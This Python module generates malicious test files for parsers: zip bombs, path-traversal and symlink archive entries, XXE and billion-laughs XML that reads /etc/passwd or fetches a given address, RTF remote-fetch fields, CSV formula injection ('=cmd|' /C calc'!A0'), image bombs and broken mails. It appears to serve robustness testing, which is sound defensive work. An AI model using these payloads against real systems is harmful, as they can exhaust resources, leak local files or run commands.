"""Makes files that mean harm: archives, XML, mails, tables, texts and pictures. Small to keep, large to open."""

from __future__ import annotations

import io
import struct
import zipfile
import zlib
from collections.abc import Iterator

Made = tuple[str, str, bytes]  # the kind of harm, a name, the content

_OFFICE = "http://schemas.openxmlformats.org"
_MAIN = {
    "docx": ("word/document.xml", "wordprocessingml.document"),
    "pptx": ("ppt/presentation.xml", "presentationml.presentation"),
    "xlsx": ("xl/workbook.xml", "spreadsheetml.sheet"),
}
_NESTED = 200_000


def made(away: str) -> Iterator[Made]:
    """Yield every file of this module, always the same; ``away`` is the web address that some want to be fetched."""
    for maker in (_zip_bombs, _zip_traps, _deep, _texts, _mails, _pictures, _nothing_much):
        yield from maker()
    for reaching in (_xml_bombs, _rtf, _tables):
        yield from reaching(away)


def packed(members: dict[str, bytes | str], method: int = zipfile.ZIP_DEFLATED) -> bytes:
    """Return a ZIP archive."""
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", method) as archive:
        for name, content in members.items():
            archive.writestr(zipfile.ZipInfo(name), content, compress_type=method, compresslevel=1)
    return buffer.getvalue()


def office(form: str, main: str | bytes, more: dict[str, str | bytes] | None = None) -> bytes:
    """Return an Office, OpenDocument or EPUB file whose main part is ``main``."""
    if form == "odt":
        return packed({"mimetype": "application/vnd.oasis.opendocument.text", "content.xml": main, **(more or {})})
    if form == "epub":
        book = (
            '<package><manifest><item id="a" href="a.xhtml" media-type="application/xhtml+xml"/></manifest>'
            '<spine><itemref idref="a"/></spine></package>'
        )
        found = '<container><rootfiles><rootfile full-path="book.opf"/></rootfiles></container>'
        parts = {"mimetype": "application/epub+zip", "META-INF/container.xml": found, "book.opf": book}
        return packed({**parts, "a.xhtml": main, **(more or {})})
    part, kind = _MAIN[form]
    types = (
        f'<Types xmlns="{_OFFICE}/package/2006/content-types"><Override PartName="/{part}" ContentType="application/'
        f'vnd.openxmlformats-officedocument.{kind}.main+xml"/></Types>'
    )
    return packed({"[Content_Types].xml": types, part: main, **(more or {})})


FORMS = ("docx", "pptx", "xlsx", "odt", "epub")


def _zip_bombs() -> Iterator[Made]:
    zeros = bytes(100_000_000)
    yield "zip bomb", "flat.zip", packed({f"{n}.txt": zeros for n in range(3)})
    yield "zip bomb", "one.zip", packed({"a.txt": bytes(257_000_000)})
    inner = packed({"a.txt": b"words " * 10_000_000})
    for level in range(1, 6):
        inner = packed({f"{n}.zip": inner for n in range(8)})
        yield "zip bomb", f"nested{level}.zip", inner
    yield "zip bomb", "overlapping.zip", _overlapping()
    yield "zip bomb", "members.zip", packed({f"{n}.txt": b"" for n in range(20_000)}, zipfile.ZIP_STORED)
    for form in FORMS:
        yield "zip bomb", f"bomb.{form}", office(form, b"<a>" + b" " * 257_000_000 + b"</a>")
        yield "zip bomb", f"words.{form}", office(form, b"<a>" + b"words " * 5_000_000 + b"</a>")
    yield "zip bomb", "picture.docx", office("docx", "<a/>", {"word/media/a.png": bytes(100_000_000)})


def _overlapping() -> bytes:
    """Return an archive all of whose entries are one and the same content (David Fifield's idea, 2019)."""
    archive = bytearray(packed({"a.txt": bytes(50_000_000)}))
    start = archive.rindex(b"PK\x01\x02")
    end = archive.rindex(b"PK\x05\x06")
    entry, count = bytes(archive[start:end]), 4000
    tail = struct.pack("<4s4H2IH", b"PK\x05\x06", 0, 0, count, count, len(entry) * count, start, 0)
    return bytes(archive[:start]) + entry * count + tail


def _zip_traps() -> Iterator[Made]:
    names = ["../../out.txt", "/tmp/out.txt", "C:\\out.txt", "..\\..\\out.txt", "a/../../../out.txt",
    "./././out.txt",
             "\\\\host\\share\\out.txt", "con.txt", "a\x00.txt", "\x1b[31mred.txt", "\u202etxt.exe",
             "a" * 5000 + ".txt",
             "a/" * 2000 + "a.txt", "~/.bashrc.txt", "$(id).txt", "file:///etc/passwd.txt"]  # fmt: skip
    for number, name in enumerate(names):
        yield "zip trap", f"name{number}.zip", packed({name: "Text in a member."})
    for number, mode in enumerate((0o120777, 0o020666, 0o060666, 0o010666, 0o140777)):  # link, devices, pipe, socket
        buffer = io.BytesIO()
        with zipfile.ZipFile(buffer, "w") as archive:
            entry = zipfile.ZipInfo("passwd.txt")
            entry.create_system, entry.external_attr = 3, mode << 16
            archive.writestr(entry, "/etc/passwd")
            archive.writestr("passwd.txt/inside.txt", "through the link")
        yield "zip trap", f"special{number}.zip", buffer.getvalue()
    plain = packed({"a.txt": "One text.", "A.TXT": "Another text.", "b.txt": "Third."})
    yield "zip trap", "case.zip", plain
    yield "zip trap", "twice.zip", plain.replace(b"b.txt", b"a.txt")
    directory, end = plain.index(b"PK\x01\x02"), plain.rindex(b"PK\x05\x06")
    for number, (at, value) in enumerate(((8, 0xFFFF), (10, 0xFFFF), (12, 0xFFFFFFFF), (16, 0xFFFFFFFF), (16, 0))):
        broken = bytearray(plain)
        struct.pack_into("<H" if value == 0xFFFF else "<I", broken, end + at, value)
        yield "zip trap", f"directory{number}.zip", bytes(broken)
    for field in (10, 20, 24, 28, 30, 32, 42):  # method, sizes, lengths of name, extra and comment, place
        broken = bytearray(plain)
        broken[directory + field : directory + field + 2] = b"\xff\xff"
        yield "zip trap", f"entry{field}.zip", bytes(broken)


def _xml_bombs(away: str) -> Iterator[Made]:
    laughs = "".join(f"<!ENTITY b{n} '" + f"&b{n - 1};" * 10 + "'>" for n in range(1, 10))
    heads = {
        "laughs": (f'<!DOCTYPE a [<!ENTITY b0 "laugh">{laughs}]>', "&b9;"),
        "attribute": (f'<!DOCTYPE a [<!ENTITY b0 "laugh">{laughs}]>', '<b c="&b9;"/>'),
        "quadratic": ('<!DOCTYPE a [<!ENTITY b "' + "x" * 100_000 + '">]>', "&b;" * 20_000),
        "file": ('<!DOCTYPE a [<!ENTITY b SYSTEM "file:///etc/passwd">]>', "&b;"),
        "net": (f'<!DOCTYPE a [<!ENTITY b SYSTEM "{away}">]>', "&b;"),
        "dtd": (f'<!DOCTYPE a SYSTEM "{away}">', "words"),
        "parameter": (f'<!DOCTYPE a [<!ENTITY % p SYSTEM "{away}"> %p;]>', "words"),
        "itself": ('<!DOCTYPE a [<!ENTITY b "&c;"><!ENTITY c "&b;">]>', "&b;"),
        "include": (
            "",
            '<x:include xmlns:x="http://www.w3.org/2001/XInclude" href="file:///etc/passwd" parse="text"/>',
        ),
        "sheet": (f'<?xml-stylesheet href="{away}" type="text/xsl"?>', "words"),
    }
    for name, (head, body) in heads.items():
        text = f'<?xml version="1.0"?>{head}<a><p>{body}</p></a>'
        for form in FORMS:
            yield "xml bomb", f"{name}.{form}", office(form, text)
        yield "xml bomb", f"{name}.html", text.encode()
        yield "xml bomb", f"{name}.svg", text.replace("<a>", '<svg xmlns="http://www.w3.org/2000/svg">').encode()


def _deep() -> Iterator[Made]:
    attributes = " ".join(f"b{n}='1'" for n in range(_NESTED))
    for form in FORMS:
        yield "deep nesting", f"deep.{form}", office(form, "<a>" * _NESTED + "words")
        yield "deep nesting", f"attributes.{form}", office(form, f"<a {attributes}/>")
    for tag in ("div", "b", "table><tr><td", "ul><li", "svg", "select><option"):
        yield "deep nesting", f"{tag[:3]}.html", f"<html><body>{f'<{tag}>' * _NESTED}words".encode()
    yield "deep nesting", "attributes.html", f"<p {attributes}>words".encode()
    yield "deep nesting", "unclosed.html", b"<html><!--" + b"<a " * 1_000_000
    yield "deep nesting", "quotes.md", b"> " * _NESTED + b"words"
    yield "deep nesting", "list.md", b"".join(b" " * n + b"- a\n" for n in range(2000))


def _texts() -> Iterator[Made]:
    for name, unit in {"letters": b"w", "words": b"word ", "lines": b"a\n", "stops": b".", "signs": "！".encode(),
                       "han": "年休假".encode(), "marks": "a\u0301".encode(),
                       "bidi": "\u202ea".encode()}.items():  # fmt: skip
        yield "long text", f"{name}.txt", unit * (6_000_000 // len(unit))
        yield "long text", f"{name}.md", unit * (1_000_000 // len(unit))
    yield "long text", "too-long.txt", b"word " * 5_000_000
    yield "long text", "nul.txt", bytes(1_000_000)
    yield "long text", "some-nul.txt", b"word\0" * 100_000
    yield "long text", "half-utf16.txt", "word ".encode("utf-16") * 1000 + b"x"
    yield "long text", "surrogates.txt", "\ud800\udc00\ud800".encode("utf-16-le", "surrogatepass") * 1000
    for number, mark in enumerate((b"\xff\xfe", b"\xfe\xff", b"\xef\xbb\xbf", b"\xff\xfe\0\0", b"\0\0\xfe\xff")):
        yield "long text", f"mark{number}.txt", mark + b"\xd8\0\xdc" * 999


def _mails() -> Iterator[Made]:
    head = b"MIME-Version: 1.0\nMessage-ID: <1@example.org>\nFrom: a@example.org\n"
    mixed = b"Content-Type: multipart/mixed; boundary=b\n\n"
    part = b"--b\nContent-Disposition: attachment; filename=a%d.txt\n\nhello %d\n"
    yield "mail trap", "many.eml", head + mixed + b"".join(part % (n, n) for n in range(10_000)) + b"--b--"
    for depth in (50, 1000, 20_000):
        inside = b"".join(b"Content-Type: multipart/mixed; boundary=b%d\n\n--b%d\n" % (n, n) for n in range(depth))
        yield "mail trap", f"parts{depth}.eml", head + inside + b"\nhello"
        yield "mail trap", f"mails{depth}.eml", head + b"Content-Type: message/rfc822\n\n" * depth + b"hello"
    for number, field in enumerate((b"Subject: " + b"(" * 100_000, b"To: " + b"a@b.c, " * 100_000,
                                    b"Subject: " + b"=?utf-8?b?////?=" * 5000,
                                    b"Content-Type: text/plain; " + b"a=b;" * 50_000,
                                    b"Content-Type: text/html; charset=no-such", b"Content-Type: /;;;===",
                                    b"Content-Transfer-Encoding: base64\nContent-Type: text/plain",
                                    b"Date: " + b"1 " * 50_000,
                                    b"Content-Type: multipart/mixed; boundary=" + b"b" * 9999,
                                    b"Content-Type: multipart/alternative", b'From: "' + b"\\" * 50_000)):  # fmt: skip
        yield "mail trap", f"field{number}.eml", head + field + b"\n\n--b\n\nhello\n=XX\xff"
    name = b"Content-Disposition: attachment; filename*=utf-8''%2e%2e%2f%2e%2e%2fetc%2fpasswd.txt\n\nhello\n--b--"
    yield "mail trap", "name.eml", head + mixed + b"--b\n" + name


def _rtf(away: str) -> Iterator[Made]:
    bodies = {"groups": b"{" * 1_000_000, "footnotes": b"{\\footnote a" * 900, "numbers": b"\\u-99999999999 " * 9999,
              "binary": b"\\bin999999999 x", "skips": b"\\uc999999999 \\u1 " * 999,
              "pages": b"\\ansicpg99999 \\'ff",
              "object": b"{\\object\\objemb{\\*\\objdata " + b"ab" * 999_999 + b"}}",
              "rows": b"\\intbl a\\cell\\row" * 99_999,
              "fields": b'{\\field{\\*\\fldinst INCLUDEPICTURE "%sa.png"}}' % away.encode(),
              "ends": b"}" * 99_999}  # fmt: skip
    for name, body in bodies.items():
        yield "rtf trap", f"{name}.rtf", b"{\\rtf1\\ansi " + body + b"}"


def _tables(away: str) -> Iterator[Made]:
    yield "wide table", "columns.csv", b",".join(b"%d" % n for n in range(1_000_000))
    yield "wide table", "sparse.csv", b",".join(b"%d" % n for n in range(100_000)) + b"\n" + b"1\n" * 50_000
    yield "wide table", "empty.csv", b"," * 5_000_000
    yield "wide table", "quote.csv", b'a,b\n"' + b"x" * 20_000_000
    yield "wide table", "quotes.csv", b'"' * 5_000_001
    formula = b"=HYPERLINK(\"%s\"),=cmd|' /C calc'!A0,@SUM(1)\n" % away.encode()
    yield "wide table", "formulas.csv", b"a,b,c\n" + formula * 100
    sheet = "<worksheet><sheetData>{}</sheetData></worksheet>"
    far = "".join(f'<row r="{n}"><c r="XFD{n}"><v>1</v></c></row>' for n in range(1, 3000))
    rows = {"far": far, "last": '<row r="1048576"><c r="XFD1048576"><v>1</v></c></row>',
            "number": '<row r="' + "9" * 5000 + '"><c r="A1"><v>1</v></c></row>',
            "column": '<row r="1"><c r="' + "Z" * 5000 + '1"><v>1</v></c></row>',
            "shared": '<row r="1"><c r="A1" t="s"><v>99999999999999999999</v></c></row>',
            "infinite": '<row r="1"><c r="A1" s="1"><v>1e999</v></c><c r="B1"><v>nan</v></c></row>'}  # fmt: skip
    names = f'xmlns:r="{_OFFICE}/officeDocument/2006/relationships"'
    book = f'<workbook {names}><sheets><sheet name="a" r:id="r1"/></sheets></workbook>'
    links = (
        f'<Relationships><Relationship Id="r1" Type="{_OFFICE}/worksheet" Target="worksheets/a.xml"/></Relationships>'
    )
    for name, row in rows.items():
        parts = {"xl/_rels/workbook.xml.rels": links, "xl/worksheets/a.xml": sheet.format(row)}
        yield "wide table", f"{name}.xlsx", office("xlsx", book, dict(parts))
    repeated = '<table:table-row table:number-rows-repeated="9999999"><table:table-cell table:number-columns-repeated='
    content = (
        '<a xmlns:table="t" xmlns:office="o"><office:body><office:spreadsheet><table:table>'
        + (repeated + '"9999999"><p>1</p></table:table-cell></table:table-row>') * 50
        + "</table:table></office:spreadsheet></office:body></a>"
    )
    kind = "application/vnd.oasis.opendocument.spreadsheet"
    yield "wide table", "repeated.ods", packed({"mimetype": kind, "content.xml": content})


def _pictures() -> Iterator[Made]:
    for width, height in ((60_000, 60_000), (2**31 - 1, 2**31 - 1), (0, 0), (1, 2**31 - 1), (20_000, 8_000)):
        yield "picture bomb", f"{width}x{height}.png", _png(width, height)
        yield (
            "picture bomb",
            f"{width}x{height}.gif",
            b"GIF89a" + struct.pack("<HHBBB", width & 0xFFFF, height & 0xFFFF, 0x80, 0, 0),
        )
        bitmap = struct.pack("<2sIHHIIiiHHIIiiII", b"BM", 54, 0, 0, 54, 40, width, height, 1, 24, 0, 0, 0, 0, 0, 0)
        yield "picture bomb", f"{width}x{height}.bmp", bitmap
    for number, link in enumerate((8, 4, 0xFFFFFFFF)):  # a directory whose next one is itself, or nowhere
        tags = struct.pack("<HHII", 256, 4, 1, 50_000) + struct.pack("<HHII", 257, 4, 1, 50_000)
        tiff = b"II*\0\x08\0\0\0" + struct.pack("<H", 2) + tags + struct.pack("<I", link)
        yield "picture bomb", f"loop{number}.tiff", tiff


def _png(width: int, height: int) -> bytes:
    def chunk(kind: bytes, content: bytes) -> bytes:
        return struct.pack(">I", len(content)) + kind + content + struct.pack(">I", zlib.crc32(kind + content))

    header = struct.pack(">IIBBBBB", width, height, 8, 2, 0, 0, 0)
    rows = zlib.compress(bytes(2_000_000), 9)
    return b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", header) + chunk(b"IDAT", rows) + chunk(b"IEND", b"")


def _nothing_much() -> Iterator[Made]:
    yield "no document", "empty.pdf", b""
    beginnings = (b"%PDF-", b"PK\x03\x04", b"PK\x05\x06" + bytes(18), b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1",
    b"{\\rtf", b"\x89PNG\r\n",
                  b"GIF89a", b"\xff\xd8\xff", b"II*\0", b"RIFF....WEBP", b"\x7fELF", b"MZ", b"\x1f\x8b",
                  b"Rar!", b"<", b"\0", b"\xff\xfe",
                  b"%PDF-1.7\n%%EOF", b"From: a\n\n", b"MIME-Version: 1.0\n", b"---\n", b"|\n|-", b'"',
                  b"<?xml")  # fmt: skip
    for number, beginning in enumerate(beginnings):
        for ending in ("pdf", "docx", "txt"):
            yield "no document", f"beginning{number}.{ending}", beginning
